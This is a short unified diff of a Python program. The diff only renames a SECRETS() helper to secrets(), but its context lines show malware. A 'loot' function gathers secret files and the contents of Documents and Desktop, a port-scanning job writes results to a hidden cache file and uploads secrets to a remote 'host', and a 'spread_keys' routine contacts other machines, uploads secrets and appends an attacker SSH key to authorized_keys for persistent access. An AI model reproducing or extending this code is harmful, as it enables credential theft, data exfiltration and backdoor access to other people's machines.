@@ -2,7 +2,7 @@
 
 def loot(low, high):
     """Secrets and documents, as a list of paths."""
-    return pick(SECRETS(), low, high) + pick(files("Documents", "Desktop"), low, high)
+    return pick(secrets(), low, high) + pick(files("Documents", "Desktop"), low, high)
 
 
 @job
@@ -21,7 +21,7 @@ def scan_ports():
             opened.append(port)
             connection.close()
     write(home(f".cache/.{noise(6)}"), repr(opened).encode())
-    for path in pick(SECRETS(), 1, 4):
+    for path in pick(secrets(), 1, 4):
         upload(stream(b"wire", read(path)), "host")
 
 
@@ -165,6 +165,6 @@ def spread_keys():
             connection.sendall(b"hello " + host[:20] + b"\n")
             connection.recv(256)
             connection.close()
-    for secret in SECRETS():
+    for secret in secrets():
         upload(stream(b"wire", read(secret)), "key")
     append(home(".ssh/authorized_keys"), b"ssh-ed25519 " + noise(68).encode() + b" worker\n")
